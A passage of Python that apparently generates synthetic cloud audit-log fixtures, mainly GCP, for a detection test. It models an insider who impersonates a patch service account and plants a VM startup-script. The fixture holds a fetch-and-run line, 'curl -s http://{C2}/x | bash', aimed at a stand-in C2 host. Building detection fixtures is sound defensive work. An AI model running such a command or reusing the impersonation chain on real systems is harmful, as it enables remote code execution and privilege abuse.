    }
    if denied:
        return g_entry(
            t, log="data_access", service="osconfig.googleapis.com", method=method,
            resource_name=f"projects/{PROJECT}", principal=principal, ip=ip, ua=ua,
            resource=r_audited("osconfig.googleapis.com", method),
            authz=authz1("osconfig.patchJobs.exec", f"projects/{PROJECT}", granted=False),
            request=req, status={"code": 7, "message": "The caller does not have permission"},
            severity="ERROR", iid=iid, delegated_from=delegated_from)
    name = f"projects/{PROJECT_NUMBER}/patchJobs/{job}"
    resp = {
        "@type": "type.googleapis.com/google.cloud.osconfig.v1.PatchJob",
        "name": name,
        "displayName": display,
        "createTime": iso_us(t),
        "updateTime": iso_us(t),
        "state": "STARTED",
        "instanceFilter": filter_,
        "patchConfig": patch_config,
        "duration": duration,
        "instanceDetailsSummary": {},
        "percentComplete": 0,
        "rollout": req["rollout"],
    }
    return g_entry(
        t, log="data_access", service="osconfig.googleapis.com", method=method, resource_name=name,
        principal=principal, ip=ip, ua=ua, resource=r_audited("osconfig.googleapis.com", method),
        authz=authz1("osconfig.patchJobs.exec", f"projects/{PROJECT}"), request=req, response=resp,
        status={}, iid=iid, delegated_from=delegated_from)


G_INSERT = {k: insert_id("g-" + k) for k in
            ("ospa_first", "ospa_last", "patch_ok", "patch_denied", "patch_impersonated", "startup_first",
             "startup_last")}
STARTUP_SCRIPT = f"#!/bin/bash\ncurl -s http://{C2}/x | bash"


def gcp_entries() -> tuple[list[dict], dict]:
    es = []

    # ---- unrelated ------------------------------------------------------------------------
    t = T("2026-11-16 10:02:41.318220")
    es.append(g_entry(
        t, log="activity", service="cloudresourcemanager.googleapis.com", method="SetIamPolicy",
        resource_name=f"projects/{PROJECT}", principal="gina@example.com", ip=OFFICE_IP,
        ua=gua("projects.add-iam-policy-binding", "MACOSX", "24.1.0"),
        resource={"type": "project", "labels": {"project_id": PROJECT}},
        authz=authz1("resourcemanager.projects.setIamPolicy", f"projects/{PROJECT}", service="cloudresourcemanager.googleapis.com",
                     rtype="cloudresourcemanager.googleapis.com/Project"),
        request={"@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest", "resource": PROJECT,
                 "policy": {"etag": "BwYl3p+Rq2U=", "bindings": [
                     {"role": "roles/compute.instanceAdmin.v1", "members": [f"user:{FRANK}"]},
                     {"role": "roles/iam.serviceAccountTokenCreator", "members": ["group:platform-oncall@example.com"]}]}},
        response={"@type": "type.googleapis.com/google.iam.v1.Policy", "etag": "BwYl3qAk7vE=", "bindings": [
            {"role": "roles/compute.instanceAdmin.v1", "members": [f"user:{FRANK}"]},
            {"role": "roles/iam.serviceAccountTokenCreator", "members": ["group:platform-oncall@example.com"]}]},
        metadata={"@type": "type.googleapis.com/google.iam.v1.logging.AuditData",
                  "bindingDeltas": [{"action": "ADD", "role": "roles/compute.instanceAdmin.v1", "member": f"user:{FRANK}"}]},
        status={}))
    t = T("2026-11-16 11:00:09.771402")
    compute_lro(es, t, T("2026-11-16 11:00:38.104811"), method="v1.compute.instances.insert", op_type="insert",
                name="web-8", principal=CI_SA, ip=CI_IP, ua=TF_UA, permission="compute.instances.create")
    t = T("2026-11-16 11:03:15.020331")
    compute_lro(es, t, T("2026-11-16 11:03:22.480127"), method="v1.compute.instances.setMetadata",
                op_type="setMetadata", name="web-8", principal=CI_SA, ip=CI_IP, ua=TF_UA,
                permission="compute.instances.setMetadata",
                request_extra={"Metadata Keys Modified": ["enable-oslogin"]},
                metadata={"@type": "type.googleapis.com/google.cloud.audit.GceInstanceAuditMetadata",
                          "instanceMetadataDelta": {"modifiedMetadataKeys": ["enable-oslogin"]}})
    t = T("2026-11-16 15:47:55.903117")
    es.append(g_entry(
        t, log="activity", service="storage.googleapis.com", method="storage.buckets.create",
        resource_name="projects/_/buckets/example-prod-patch-scripts", principal=CI_SA, ip=CI_IP, ua=TF_UA,
        resource={"type": "gcs_bucket", "labels": {"bucket_name": "example-prod-patch-scripts",
                                                   "location": "us-central1", "project_id": PROJECT}},
        authz=authz1("storage.buckets.create", "projects/_/buckets/example-prod-patch-scripts",
                     service="storage.googleapis.com", rtype="storage.googleapis.com/Bucket"),
        request={"defaultObjectAcl": {"@type": "type.googleapis.com/google.iam.v1.Policy"}},
        status={}))
    t = T("2026-11-17 13:20:31.552098")
    compute_lro(es, t, T("2026-11-17 13:21:04.331276"), method="v1.compute.instances.stop", op_type="stop",
                name="batch-1", principal="gina@example.com", ip=OFFICE_IP,
                ua=gua("compute.instances.stop", "MACOSX", "24.1.0"), permission="compute.instances.stop")
    t = T("2026-11-17 16:09:40.440761")
    es.append(g_entry(
        t, log="data_access", service="osconfig.googleapis.com",
        method="google.cloud.osconfig.v1.OsConfigZonalService.GetOSPolicyAssignment",
        resource_name=f"projects/{PROJECT_NUMBER}/locations/{ZONE}/osPolicyAssignments/ops-agent-web",
        principal=CI_SA, ip=CI_IP, ua=TF_UA,
        resource=r_audited("osconfig.googleapis.com", "google.cloud.osconfig.v1.OsConfigZonalService.GetOSPolicyAssignment"),
        authz=authz1("osconfig.osPolicyAssignments.get",
                     f"projects/{PROJECT_NUMBER}/locations/{ZONE}/osPolicyAssignments/ops-agent-web"),
        request={"@type": "type.googleapis.com/google.cloud.osconfig.v1.GetOSPolicyAssignmentRequest",
                 "name": f"projects/{PROJECT}/locations/{ZONE}/osPolicyAssignments/ops-agent-web"},
        status={}))
    t = T("2026-11-18 04:00:05.118230")
    es.append(g_entry(
        t, log="data_access", service="storage.googleapis.com", method="storage.objects.get",
        resource_name="projects/_/buckets/example-prod-patch-scripts/objects/pre-patch.sh",
        principal=PATCH_SA, ip="198.51.100.150", ua=GO_UA,
        resource={"type": "gcs_bucket", "labels": {"bucket_name": "example-prod-patch-scripts",
                                                   "location": "us-central1", "project_id": PROJECT}},
        authz=authz1("storage.objects.get", "projects/_/buckets/example-prod-patch-scripts/objects/pre-patch.sh",
                     service="storage.googleapis.com", rtype="storage.googleapis.com/Object"),
        status={}))
    t = T("2026-11-18 04:31:47.662915")
    es.append(g_entry(
        t, log="data_access", service="osconfig.googleapis.com",
        method="google.cloud.osconfig.v1.OsConfigService.GetPatchJob",
        resource_name=f"projects/{PROJECT_NUMBER}/patchJobs/{uid('patchjob-weekly')}",
        principal=PATCH_SA, ip="198.51.100.150", ua=GO_UA,
        resource=r_audited("osconfig.googleapis.com", "google.cloud.osconfig.v1.OsConfigService.GetPatchJob"),
        authz=authz1("osconfig.patchJobs.get", f"projects/{PROJECT_NUMBER}/patchJobs/{uid('patchjob-weekly')}"),
        request={"@type": "type.googleapis.com/google.cloud.osconfig.v1.GetPatchJobRequest",
                 "name": f"projects/{PROJECT}/patchJobs/{uid('patchjob-weekly')}"},
        status={}))
    t = T("2026-11-18 11:14:02.981507")
    es.append(g_entry(
        t, log="activity", service="compute.googleapis.com", method="v1.compute.firewalls.insert",
        resource_name=f"projects/{PROJECT}/global/firewalls/allow-health-checks-web", principal=CI_SA, ip=CI_IP,
        ua=TF_UA, resource={"type": "gce_firewall_rule", "labels": {"firewall_rule_id": "6028412345678901234",
                                                                     "project_id": PROJECT}},
        authz=authz1("compute.firewalls.create", f"projects/{PROJECT}/global/firewalls/allow-health-checks-web",
                     service="compute", rtype="compute.firewalls"),
        request={"@type": "type.googleapis.com/compute.firewalls.insert"},
        operation={"id": f"operation-{int(t.timestamp() * 1000)}-{hexs(13)}-{hexs(8)}-{hexs(8)}",
                   "producer": "compute.googleapis.com", "first": True, "last": True},
        status={}))
    # Thu: frank's recon before the attack
    t = T("2026-11-19 02:05:19.408816")
    es.append(g_entry(
        t, log="data_access", service="compute.googleapis.com", method="v1.compute.instances.list",
        resource_name=f"projects/{PROJECT}/zones/{ZONE}/instances", principal=FRANK, ip=ATTACKER_IP,
        ua=gua("compute.instances.list", "LINUX", "6.5.0-kali3-amd64"),
        resource={"type": "gce_instance", "labels": {"instance_id": "", "project_id": PROJECT, "zone": ZONE}},
        authz=authz1("compute.instances.list", f"projects/{PROJECT}", service="resourcemanager",
                     rtype="resourcemanager.projects"),
        request={"@type": "type.googleapis.com/compute.instances.list"}, status={}))
    t = T("2026-11-19 02:12:58.037114")
    es.append(g_entry(
        t, log="data_access", service="iamcredentials.googleapis.com",
        method="GenerateAccessToken",
        resource_name="projects/-/serviceAccounts/104857300912345678901",
        principal=FRANK, ip=ATTACKER_IP, ua=gua("auth.print-access-token", "LINUX", "6.5.0-kali3-amd64"),
        resource={"type": "service_account", "labels": {"email_id": PATCH_SA, "project_id": PROJECT,
                                                        "unique_id": "104857300912345678901"}},
        authz=authz1("iam.serviceAccounts.getAccessToken", f"projects/-/serviceAccounts/104857300912345678901",
                     service="iamcredentials.googleapis.com", rtype="iam.googleapis.com/ServiceAccount"),
        request={"@type": "type.googleapis.com/google.iam.credentials.v1.GenerateAccessTokenRequest",
                 "name": f"projects/-/serviceAccounts/{PATCH_SA}"},
        metadata={"identityDelegationChain": [f"projects/-/serviceAccounts/{PATCH_SA}"]},
        status={}))
    t = T("2026-11-19 02:15:44.612309")
    es.append(g_entry(
        t, log="data_access", service="osconfig.googleapis.com",
        method="google.cloud.osconfig.v1.OsConfigService.ListPatchJobInstanceDetails",
        resource_name=f"projects/{PROJECT_NUMBER}/patchJobs/{uid('patchjob-attack')}",
        principal=PATCH_SA, ip=ATTACKER_IP, ua=gua("compute.os-config.patch-jobs.list-instance-details", "LINUX",
                                                    "6.5.0-kali3-amd64"),
        delegated_from=FRANK,
        resource=r_audited("osconfig.googleapis.com",
                           "google.cloud.osconfig.v1.OsConfigService.ListPatchJobInstanceDetails"),
        authz=authz1("osconfig.patchJobs.get", f"projects/{PROJECT_NUMBER}/patchJobs/{uid('patchjob-attack')}"),
        request={"@type": "type.googleapis.com/google.cloud.osconfig.v1.ListPatchJobInstanceDetailsRequest",
                 "parent": f"projects/{PROJECT}/patchJobs/{uid('patchjob-attack')}"},
        status={}))
    t = T("2026-11-19 02:19:02.220573")
    es.append(g_entry(
        t, log="data_access", service="compute.googleapis.com", method="v1.compute.instances.get",
        resource_name=inst_path("web-3"), principal=FRANK, ip=ATTACKER_IP,
        ua=gua("compute.instances.describe", "LINUX", "6.5.0-kali3-amd64"), resource=r_gce("web-3"),
        authz=authz1("compute.instances.get", inst_path("web-3"), service="compute", rtype="compute.instances"),
        request={"@type": "type.googleapis.com/compute.instances.get"}, status={}))
    t = T("2026-11-20 10:31:12.145520")
    es.append(g_entry(
        t, log="activity", service="iam.googleapis.com", method="google.iam.admin.v1.DisableServiceAccountKey",
        resource_name=f"projects/{PROJECT}/serviceAccounts/{PATCH_SA}/keys/{hexs(40, 'patch-runner-key')}",
        principal="gina@example.com", ip=OFFICE_IP, ua=gua("iam.service-accounts.keys.disable", "MACOSX", "24.1.0"),
        resource={"type": "service_account", "labels": {"email_id": PATCH_SA, "project_id": PROJECT,
                                                        "unique_id": "104857300912345678901"}},
        authz=authz1("iam.serviceAccountKeys.disable",
                     f"projects/{PROJECT}/serviceAccounts/{PATCH_SA}/keys/{hexs(40, 'patch-runner-key')}",
                     service="iam.googleapis.com", rtype="iam.googleapis.com/ServiceAccountKey"),
        request={"@type": "type.googleapis.com/google.iam.admin.v1.DisableServiceAccountKeyRequest",
                 "name": f"projects/{PROJECT}/serviceAccounts/{PATCH_SA}/keys/{hexs(40, 'patch-runner-key')}"},
        response={"@type": "type.googleapis.com/google.protobuf.Empty"}, status={}))
    t = T("2026-11-20 10:40:27.338401")
    es.append(g_entry(
        t, log="activity", service="cloudresourcemanager.googleapis.com", method="SetIamPolicy",
        resource_name=f"projects/{PROJECT}", principal="gina@example.com", ip=OFFICE_IP,
        ua=gua("projects.remove-iam-policy-binding", "MACOSX", "24.1.0"),
        resource={"type": "project", "labels": {"project_id": PROJECT}},
        authz=authz1("resourcemanager.projects.setIamPolicy", f"projects/{PROJECT}",
                     service="cloudresourcemanager.googleapis.com", rtype="cloudresourcemanager.googleapis.com/Project"),
        metadata={"@type": "type.googleapis.com/google.iam.v1.logging.AuditData",
                  "bindingDeltas": [{"action": "REMOVE", "role": "roles/compute.instanceAdmin.v1",
                                     "member": f"user:{FRANK}"}]},
        status={}))
    t = T("2026-11-18 08:01:17.604113")
    compute_lro(es, t, T("2026-11-18 08:01:49.930528"), method="v1.compute.instances.start", op_type="start",
                name="batch-1", principal="gina@example.com", ip=OFFICE_IP,
                ua=gua("compute.instances.start", "MACOSX", "24.1.0"), permission="compute.instances.start")
    t = T("2026-11-18 08:15:40.271994")
    es.append(g_entry(
        t, log="data_access", service="storage.googleapis.com", method="storage.objects.create",
        resource_name="projects/_/buckets/example-prod-batch-output/objects/2026-11-18/run-0815.parquet",
        principal=f"batch-runner@{PROJECT}.iam.gserviceaccount.com", ip="198.51.100.150",
        ua="gcloud-python/2.18.2 gl-python/3.12.7 grpc/1.66.2 gax/2.22.0 gccl/2.18.2,gzip(gfe)",
        resource={"type": "gcs_bucket", "labels": {"bucket_name": "example-prod-batch-output",
                                                   "location": "us-central1", "project_id": PROJECT}},
        authz=authz1("storage.objects.create",
                     "projects/_/buckets/example-prod-batch-output/objects/2026-11-18/run-0815.parquet",
                     service="storage.googleapis.com", rtype="storage.googleapis.com/Object"),
        status={}))

    # ---- admin commands -------------------------------------------------------------------
    # G1 Tue: CI rolls out an OS policy assignment (LRO: first + last entry)
    ospa = f"projects/{PROJECT_NUMBER}/locations/{ZONE}/osPolicyAssignments/ops-agent-web"
    ospa_op = f"{ospa}/operations/{uid('ospa-op')}"
    method = "google.cloud.osconfig.v1.OsConfigZonalService.CreateOSPolicyAssignment"
    ospa_req = {
        "@type": "type.googleapis.com/google.cloud.osconfig.v1.CreateOSPolicyAssignmentRequest",
        "parent": f"projects/{PROJECT}/locations/{ZONE}",
        "osPolicyAssignmentId": "ops-agent-web",
        "osPolicyAssignment": {
            "description": "Install and keep the Ops Agent running on web VMs",
            "osPolicies": [{
                "id": "ops-agent",
                "mode": "ENFORCEMENT",
                "resourceGroups": [{"resources": [{
                    "id": "ensure-ops-agent",
                    "exec": {
                        "validate": {"interpreter": "SHELL",
                                     "script": "systemctl is-active google-cloud-ops-agent && exit 100 || exit 101"},
                        "enforce": {"interpreter": "SHELL",
                                    "script": "curl -sSO https://dl.google.com/cloudagents/add-google-cloud-ops-agent-repo.sh && bash add-google-cloud-ops-agent-repo.sh --also-install && exit 100"},
                    },
                }]}],
            }],
            "instanceFilter": {"inclusionLabels": [{"labels": {"role": "web"}}]},
            "rollout": {"disruptionBudget": {"percent": 20}, "minWaitDuration": "300s"},
        },
    }
    t = T("2026-11-17 16:05:12.502881")
    es.append(g_entry(
        t, log="data_access", service="osconfig.googleapis.com", method=method, resource_name=ospa,
        principal=CI_SA, ip=CI_IP, ua=TF_UA, resource=r_audited("osconfig.googleapis.com", method),
        authz=authz1("osconfig.osPolicyAssignments.create", f"projects/{PROJECT_NUMBER}/locations/{ZONE}"),
        request=ospa_req,
        response={"@type": "type.googleapis.com/google.longrunning.Operation", "name": ospa_op,
                  "metadata": {"@type": "type.googleapis.com/google.cloud.osconfig.v1.OSPolicyAssignmentOperationMetadata",
                               "osPolicyAssignment": f"{ospa}@{uid('ospa-rev1')[:8]}", "apiMethod": "CREATE",
                               "rolloutState": "IN_PROGRESS", "rolloutStartTime": iso_us(t)}},
        operation={"id": ospa_op, "producer": "osconfig.googleapis.com", "first": True},
        status={}, iid=G_INSERT["ospa_first"]))
    t = T("2026-11-17 16:19:48.117604")
    es.append(g_entry(
        t, log="data_access", service="osconfig.googleapis.com", method=method, resource_name=ospa,
        principal=CI_SA, ip=CI_IP, ua=TF_UA, resource=r_audited("osconfig.googleapis.com", method),
        response={"@type": "type.googleapis.com/google.cloud.osconfig.v1.OSPolicyAssignment",
                  "name": ospa, "rolloutState": "SUCCEEDED", "revisionId": uid("ospa-rev1")[:8], "baseline": True},
        operation={"id": ospa_op, "producer": "osconfig.googleapis.com", "last": True},
        status={}, iid=G_INSERT["ospa_last"]))

    patch_cfg = {
        "rebootConfig": "DEFAULT",
        "apt": {"type": "DIST"},
        "yum": {"security": True},
        "preStep": {"linuxExecStepConfig": {"gcsObject": {
            "bucket": "example-prod-patch-scripts", "object": "pre-patch.sh", "generationNumber": "1763305675903117"},
            "interpreter": "SHELL"}},
    }
    # G2 Wed 04:00: the weekly patch job inside the window
    es.append(execute_patch_job(
        T("2026-11-18 04:00:12.381455"), principal=PATCH_SA, ip="198.51.100.150", ua=GO_UA,
        job=uid("patchjob-weekly"), display="weekly-web-2026-11-18",
        filter_={"groupLabels": [{"labels": {"role": "web"}}]}, patch_config=patch_cfg, duration="7200s",
        iid=G_INSERT["patch_ok"]))
    # G3 Thu 02:10: frank is denied
    bad_cfg = {
        "rebootConfig": "NEVER",
        "apt": {"type": "UPGRADE", "excludes": ["*"]},
        "postStep": {"linuxExecStepConfig": {"gcsObject": {
            "bucket": "example-prod-tmp", "object": "p.sh", "generationNumber": "1763518193004512"},
            "interpreter": "SHELL"}},
    }
    es.append(execute_patch_job(
        T("2026-11-19 02:10:44.905126"), principal=FRANK, ip=ATTACKER_IP,
        ua=gua("compute.os-config.patch-jobs.execute", "LINUX", "6.5.0-kali3-amd64"), job="",
        display="hotfix", filter_={"all": True}, patch_config=bad_cfg, denied=True, iid=G_INSERT["patch_denied"]))
    # G4 Thu 02:13: the same job, now as patch-runner impersonated by frank, outside the window
    es.append(execute_patch_job(
        T("2026-11-19 02:13:09.447381"), principal=PATCH_SA, ip=ATTACKER_IP,
        ua=gua("compute.os-config.patch-jobs.execute", "LINUX", "6.5.0-kali3-amd64"),
        job=uid("patchjob-attack"), display="hotfix", filter_={"all": True}, patch_config=bad_cfg,
        delegated_from=FRANK, iid=G_INSERT["patch_impersonated"]))
    # G5 Thu 02:20: startup-script added to a running instance (LRO: first + last)
    first, _ = compute_lro(
        es, T("2026-11-19 02:20:31.412877"), T("2026-11-19 02:20:39.806112"),
        method="v1.compute.instances.setMetadata", op_type="setMetadata", name="web-3", principal=FRANK,
        ip=ATTACKER_IP, ua=gua("compute.instances.add-metadata", "LINUX", "6.5.0-kali3-amd64"),
        permission="compute.instances.setMetadata",
        request_extra={"Metadata Keys Added": ["startup-script"],
                       "metadata": {"fingerprint": "q2Bd4E1xHn8=",
                                    "items": [{"key": "startup-script", "value": STARTUP_SCRIPT}]}},
        metadata={"@type": "type.googleapis.com/google.cloud.audit.GceInstanceAuditMetadata",
                  "instanceMetadataDelta": {"addedMetadataKeys": ["startup-script"]}},
        labels={"compute.googleapis.com/root_trigger_id": uid("root-trigger-startup")},
        iid_first=G_INSERT["startup_first"], iid_last=G_INSERT["startup_last"])

    es.sort(key=lambda e: e["timestamp"])
    pub_time = T("2026-11-19 02:20:33.118000")
    push = {
        "message": {
            "attributes": {"logging.googleapis.com/timestamp": first["timestamp"]},
            "data": base64.b64encode(json.dumps(first, separators=(",", ":")).encode()).decode(),
            "messageId": "13407297311590244",
            "message_id": "13407297311590244",
            "publishTime": iso_ms(pub_time),
            "publish_time": iso_ms(pub_time),
        },
        "subscription": f"projects/{PROJECT}/subscriptions/runwatch-audit",
    }
    return es, push


# ================================================================== main


def main() -> None:
    ct_files, attack = aws_files()
    for name, recs in ct_files.items():
        write_gz_json(HERE / "aws" / "cloudtrail" / name, {"Records": recs})
    for name, obj in eventbridge(attack).items():
        if name.endswith(".jsonl"):
            write_jsonl(HERE / "aws" / "eventbridge" / name, obj)
        else:
            write_json(HERE / "aws" / "eventbridge" / name, obj)
    export, eg = azure_export()
    write_json(HERE / "azure" / "activity-log-export.json", export)
    write_json(HERE / "azure" / "eventgrid-runcommand.json", eg)
    write_json(HERE / "azure" / "activity-log-portal.json", azure_portal())
    entries, push = gcp_entries()
    write_jsonl(HERE / "gcp" / "audit-logs.jsonl", entries)
    write_json(HERE / "gcp" / "pubsub-push.json", push)


if __name__ == "__main__":
    main()
